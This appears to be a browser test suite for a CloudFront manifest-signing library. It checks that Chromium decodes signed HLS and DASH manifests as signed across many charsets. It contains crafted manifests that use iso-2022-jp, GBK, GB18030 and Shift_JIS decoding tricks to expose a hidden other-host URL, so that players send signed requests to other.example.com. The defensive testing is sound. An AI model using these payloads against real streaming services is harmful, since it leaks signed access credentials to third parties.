import { Chromium } from "@cloudfront-sign-webcrypto/testing/chromium";
import { keyText } from "@cloudfront-sign-webcrypto/testing/support/keys.ts";
import { signManifests } from "cloudfront-sign-media/server";
import { createCloudFrontSigner } from "cloudfront-sign-webcrypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { pageScript } from "./support/documented.ts";
import { pageFile } from "./support/hosts.ts";
import { Sites } from "./support/sites.ts";

/**
 * What Chromium decodes is what was signed, whatever charset the origin names. Each attack is also played as if the
 * answer had kept that charset: so it shows which requests to another host the charset of the answer prevents.
 */

const cdn = "https://cdn.example.com";
const other = "https://other.example.com";
const charsets = [
  "iso-2022-jp",
  "gbk",
  "gb18030",
  "big5",
  "utf-16",
  "utf-16be",
  "shift_jis",
  "euc-jp",
  "euc-kr",
  "x-user-defined",
  "windows-1252",
];
const types = ["application/vnd.apple.mpegurl", "text/plain", "application/dash+xml", "text/xml"];

const page = `<!doctype html><title>players</title><script type="module" src="/page.js"></script>`;
const script = `
  import { MediaPlayer } from "dashjs";
  import Hls from "hls.js";
  globalThis.play = (url) => {
    const video = document.body.appendChild(document.createElement("video"));
    video.muted = true;
    if (url.includes(".mpd")) return void MediaPlayer().create().initialize(video, url, true);
    const hls = new Hls();
    hls.loadSource(url);
    hls.attachMedia(video);
  };
  const xhr = (url, responseType) => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open("GET", url);
    request.responseType = responseType;
    request.onerror = reject;
    request.onload = () => resolve(responseType === "document" ? new XMLSerializer().serializeToString(request.responseXML) : request.responseText);
    request.send();
  });
  globalThis.decode = async (url) => JSON.stringify([await (await fetch(url)).text(), await xhr(url, ""), await xhr(url, "text")]);
  globalThis.decodeXml = async (url) => [...(await xhr(url, "document")).matchAll(/[^!-~ \\n]/g)].join("");
  globalThis.isReady = true;`;

const mpd = (start: string) =>
  `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT8S" minBufferTime="PT2S" profiles="urn:mpeg:dash:profile:isoff-live:2011">${start}<Period id="1" duration="PT8S"><AdaptationSet mimeType="video/mp4" codecs="avc1.42c01e" contentType="video"><SegmentTemplate media="$Number$.m4s" initialization="init.mp4" duration="2"/><Representation id="1" bandwidth="1000" width="320" height="180"></Representation></AdaptationSet></Period></MPD>`;
const own = (id: string) => `<BaseURL>${cdn}/v/${id}/</BaseURL>`;
const stolen = (id: string) => `<BaseURL>${other}/${id}/</BaseURL>`;

const hidden = (last: string, id: string) =>
  mpd(`<A><![CDATA[${last}]]></A>${own(id)}<!-- ]]></A>${stolen(id)}<!-- -->`);

/** Valid UTF-8, in which the URL of the other host is a part of a comment; with the charset it is not. */
const attacks: Record<string, { readonly file: string; readonly text: (id: string) => string }> = {
  // Two bytes of ESC sequences are nothing in this charset, so that the comment ends earlier.
  "iso-2022-jp": {
    file: "a.mpd",
    text: (id) => mpd(`<!-- -\x1b(B->${stolen(id)}<!-- -->${own(id)}`),
  },
  // The last byte of あ or ぃ and the ] are one character.
  gbk: { file: "b.mpd", text: (id) => hidden("あ", id) },
  gb18030: { file: "c.mpd", text: (id) => hidden("あ", id) },
  shift_jis: { file: "d.mpd", text: (id) => hidden("ぃ", id) },
  // The definition is in Kanji, and the comment is a definition.
  "iso-2022-jp in HLS": {
    file: "a.m3u8",
    text: (id) =>
      `#EXTM3U\n#EXT-X-VERSION:8\n#\x1b$B\n#EXT-X-DEFINE:NAME="v",VALUE="${cdn}/v/${id}"\n#\x1b(B\n#\x1b(BEXT-X-DEFINE:NAME="v",VALUE="${other}/${id}"\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\n{$v}/1.ts\n#EXT-X-ENDLIST\n`,
  },
};

const grant = await createCloudFrontSigner({
  keyPairId: "K2JCJMDEHXQW5F",
  privateKey: keyText("rsa2048.pkcs8.pem"),
}).grant({ resource: `${cdn}/v/*`, expiresIn: "1h" });
const idOf = (kind: string, name: string) => `${kind}-${name.replace(/\W+/g, "-")}`;

/** What the origin answers, by path. */
const texts = new Map<string, { readonly text: string; readonly type: string }>();
const handler = signManifests({
  grant,
  keepHeaders: ["X-Any"],
  origin: ({ url }) => {
    const { text, type } = texts.get(new URL(url).pathname) ?? { text: "", type: "text/plain" };
    return new Response(new TextEncoder().encode(text), {
      headers: { "Content-Type": type, "Access-Control-Allow-Origin": "*" },
    });
  },
});
const signedText = async (path: string) =>
  (await handler(new Request(`${cdn}${path}`, { method: "GET" }))) as Response;

const plain = new Map<string, { readonly path: string; readonly text: string }>();
/** Characters and bytes that each of the charsets reads in another way. */
const strange = "é あ]] ü\x1b$B漢字\x1b(B ¥ 😀 \x0e\x0f ~{<:~} +AGE-";
for (const type of types)
  for (const charset of charsets) {
    const isXml = type.includes("xml");
    const path = `/v/plain/${type.replace(/\W/g, "-")}-${charset}.${isXml ? "mpd" : "m3u8"}`;
    // biome-ignore lint/suspicious/noControlCharactersInRegex: XML has none of them
    const comment = isXml ? `<!-- ${strange.replace(/[\x0e\x0f\x1b]/g, "")} -->` : "";
    const text = isXml ? mpd(comment) : `#EXTM3U\n# ${strange}\n#EXTINF:2,${strange}\na.ts\n`;
    texts.set(path, { text, type: `${type}; charset=${charset}` });
    plain.set(`${type}; charset=${charset}`, { path, text });
  }

let sites = {} as Sites;
let browser = {} as Chromium;
const asked = (id: string) =>
  sites.answered.map(({ request }) => request.url).filter((url) => url.startsWith(`${other}/${id}/`));
const played = (id: string) =>
  sites.answered.some(({ request }) =>
    new RegExp(`/(?:v/)?${id}/[^/]*\\.(?:ts|m4s|mp4)\\?`).test(request.url),
  );

beforeAll(async () => {
  for (const [name, { file, text }] of Object.entries(attacks))
    for (const kind of ["control", "answer"]) {
      const id = idOf(kind, name);
      const type = file.endsWith(".mpd") ? "application/dash+xml" : "application/vnd.apple.mpegurl";
      texts.set(`/v/${id}/${file}`, { text: text(id), type: `${type}; charset=${name.split(" ")[0]}` });
    }
  const pageJs = await pageScript(script);
  sites = await Sites.open({
    "app.example.com": ({ url }) =>
      url.endsWith(".js") ? pageFile(pageJs, "javascript") : pageFile(page, "html"),
    "cdn.example.com": async ({ url }) => {
      const { pathname } = new URL(url);
      const given = texts.get(pathname);
      if (!given) return new Response("", { status: 404, headers: { "Access-Control-Allow-Origin": "*" } });
      const response = await signedText(pathname);
      if (!pathname.includes("control")) return response;
      const headers = new Headers(response.headers);
      headers.set("Content-Type", given.type);
      return new Response(response.body, { headers });
    },
    "other.example.com": () => new Response("", { headers: { "Access-Control-Allow-Origin": "*" } }),
  });
  browser = await Chromium.open("about:blank", [
    ...sites.switches,
    "--mute-audio",
    "--autoplay-policy=no-user-gesture-required",
  ]);
  await browser.goTo("https://app.example.com/");
  await browser.until("globalThis.isReady");
  for (const [path] of texts)
    if (!path.includes("/plain/")) await browser.evaluate(`play(${JSON.stringify(cdn + path)})`);
  const ids = Object.keys(attacks).flatMap((name) => [idOf("control", name), idOf("answer", name)]);
  for (let left = 1200; left > 0 && !ids.every(played); left--)
    await new Promise((resolve) => setTimeout(resolve, 25));
}, 60_000);
afterAll(async () => {
  await browser.close?.();
  sites.close?.();
});

it.each([...plain.keys()])("Chromium decodes what was signed: %s", async (type) => {
  const { path, text } = plain.get(type) ?? expect.unreachable();
  const signed = await (await signedText(path)).text();
  expect(
    signed.replaceAll(`?${grant.query}`, "").replaceAll(`?${grant.query.replaceAll("&", "&amp;")}`, ""),
  ).toBe(text);
  const url = JSON.stringify(cdn + path);
  expect(JSON.parse(await browser.evaluate(`decode(${url})`))).toEqual([signed, signed, signed]);
  if (type.includes("xml"))
    expect(await browser.evaluate(`decodeXml(${url})`)).toBe([...signed.matchAll(/[^!-~ \n]/gu)].join(""));
});

describe.each(Object.keys(attacks))("a text that another charset changes: %s", (name) => {
  it("leads a player with a signature to another host, if the answer keeps the charset", () => {
    expect(asked(idOf("control", name)).filter((url) => url.includes("Signature="))).not.toEqual([]);
  });

  it("is played from its own host", () => {
    expect(played(idOf("answer", name))).toBe(true);
    expect(asked(idOf("answer", name))).toEqual([]);
  });
});
